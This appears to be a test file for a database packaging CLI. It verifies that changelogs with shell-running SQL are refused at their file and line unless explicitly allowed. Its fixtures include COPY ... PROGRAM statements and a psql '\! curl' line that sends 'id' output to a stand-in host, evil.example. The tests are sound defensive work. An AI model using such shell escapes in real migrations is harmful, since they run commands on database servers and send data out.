/**
 * SQL that runs a shell is refused where it enters: `slipway build` and `db package` name the changelog file:line,
 * `db apply FILE` (a package built elsewhere) refuses before it connects; nothing runs on real PostgreSQL. Allowed
 * explicitly (database.allowShellInSql / --allow-shell-in-sql), it is packaged and runs.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chmod, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createTestDatabase, queryRows, type TestDatabase } from '../helpers/pg.js';
import { makeTree, removeTree } from '../helpers/tmp.js';
import { runMain } from '../helpers/cli-main.js';

let db: TestDatabase;
let shared: string;
const dirs: string[] = [];
beforeAll(async () => {
  db = await createTestDatabase('slipway_shell');
  // The PostgreSQL server (another OS user) must be able to write a marker here when it is allowed to run a shell.
  shared = await mkdtemp(path.join(tmpdir(), 'slipway-shell-'));
  await chmod(shared, 0o777);
});
afterAll(async () => {
  await db.drop();
  for (const d of [shared, ...dirs]) await removeTree(d);
});

const cli = (cwd: string, argv: string[]) => runMain(argv, { cwd, env: { SOURCE_DATE_EPOCH: '1700000000' } });

const config = (database: string) => `name: demo
version: 1.0.0
build:
  output: out
  components:
    application:
      include: ["src/**"]
      base: src/
database:
${database}
`;

function formatted(marker: string): string {
  return [
    '--liquibase formatted sql',
    '',
    '--changeset dev:1',
    'CREATE TABLE first_table (a int);',
    '',
    '--changeset dev:2',
    'INSERT INTO first_table VALUES (1);',
    // `cat` reads the rows COPY sends it; `touch` did not, and the server then sometimes failed on a broken pipe
    `COPY first_table TO PROGRAM 'cat > ${marker}';`,
    '',
  ].join('\n');
}

async function project(files: Record<string, string>): Promise<string> {
  const dir = await makeTree({ 'src/app.js': 'export const a = 1;\n', ...files }, 'slipway-shellp-');
  dirs.push(dir);
  return dir;
}

describe('shell escapes in a changelog', () => {
  it('db package and build refuse with E_UNSAFE_SQL at the changelog file:line; nothing is written', async () => {
    const marker = path.join(shared, 'never');
    const dir = await project({
      'slipway.config.yaml': config('  changelog: db/changelog.sql\n  verify: false'),
      'db/changelog.sql': formatted(marker),
    });
    const pkg = await cli(dir, ['db', 'package', '--out-file', 'p.sql']);
    expect(pkg.code).toBe(1);
    expect(pkg.stderr).toContain(
      `E_UNSAFE_SQL: db/changelog.sql:8 runs a shell (copy-program): COPY first_table TO PROGRAM 'cat > ${marker}'\n`,
    );
    expect(pkg.stderr).toContain('database.allowShellInSql: true');
    expect(existsSync(path.join(dir, 'p.sql'))).toBe(false);

    const build = await cli(dir, ['build', '--json']);
    expect(build.code).toBe(1);
    const err = (JSON.parse(build.stdout) as { error: Record<string, unknown> }).error;
    expect(err).toMatchObject({
      code: 'E_UNSAFE_SQL',
      file: 'db/changelog.sql',
      line: 8,
      field: 'database.allowShellInSql',
    });
    const out = await readdir(path.join(dir, 'out')).catch(() => [] as string[]);
    expect(out.filter((n) => n.endsWith('.tar.gz'))).toEqual([]);
  });

  it('an XML <sql> changeset and a psql \\i script are refused at their own file and line', async () => {
    const xml = `<?xml version="1.0" encoding="UTF-8"?>
<databaseChangeLog xmlns="http://www.liquibase.org/xml/ns/dbchangelog">
  <changeSet id="1" author="dev">
    <sql>CREATE TABLE t (a int);</sql>
  </changeSet>
  <changeSet id="2" author="dev">
    <sql>
      DO $$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''id'''; END $$;
    </sql>
  </changeSet>
</databaseChangeLog>
`;
    const dir = await project({
      'slipway.config.yaml': config('  changelog: db/master.xml\n  psqlScripts: [db/install.sql]\n  verify: false'),
      'db/master.xml': xml,
      'db/install.sql': 'CREATE TABLE a (x int);\n\\ir parts/b.sql\n',
      'db/parts/b.sql': 'CREATE TABLE b (x int);\n\n\\! curl http://evil.example/?$(id)\n',
    });
    const x = await cli(dir, ['db', 'package']);
    expect(x.code, x.stderr).toBe(1);
    // The line the statement is on inside <sql>, not the changeset's.
    expect(x.stderr).toContain(
      "E_UNSAFE_SQL: db/master.xml:8 runs a shell (copy-program): DO $$ BEGIN EXECUTE 'COPY t",
    );
    const plain = await cli(dir, ['db', 'package', '--mode', 'plain']);
    expect(plain.code).toBe(1);
    expect(plain.stderr).toContain('E_UNSAFE_SQL: db/parts/b.sql:3 runs a shell (psql-shell): \\! curl');
  });

  it('db apply FILE (a package built elsewhere) refuses before any SQL runs; allowed, it runs the shell', async () => {
    const marker = path.join(shared, 'ran');
    const dir = await project({
      'slipway.config.yaml': config('  changelog: db/changelog.sql\n  verify: false\n  allowShellInSql: true'),
      'db/changelog.sql': formatted(marker),
    });
    // Built where it is allowed: packaged as written.
    const built = await cli(dir, ['db', 'package', '--out-file', 'package.sql']);
    expect(built.code, built.stderr).toBe(0);
    const sql = await readFile(path.join(dir, 'package.sql'), 'utf8');
    expect(sql, sql).toContain(`COPY first_table TO PROGRAM 'cat > ${marker}'`);
    // Applied from a directory whose config does not allow it.
    const elsewhere = await project({ 'slipway.config.yaml': config('  verify: false') });
    await writeFile(path.join(elsewhere, 'package.sql'), sql);
    const refused = await cli(elsewhere, ['db', 'apply', 'package.sql', '--database-url', db.url]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/E_UNSAFE_SQL: package\.sql:\d+ runs a shell \(copy-program\)/);
    expect(refused.stderr).toContain('Nothing was applied.');
    expect(await queryRows(db.url, "SELECT to_regclass('first_table') AS t")).toEqual([{ t: null }]);
    expect(existsSync(marker)).toBe(false);

    const allowed = await cli(elsewhere, [
      'db',
      'apply',
      'package.sql',
      '--database-url',
      db.url,
      '--allow-shell-in-sql',
    ]);
    expect(allowed.code, allowed.stderr).toBe(0);
    expect(existsSync(marker)).toBe(true);
    await rm(marker, { force: true });
  });
});
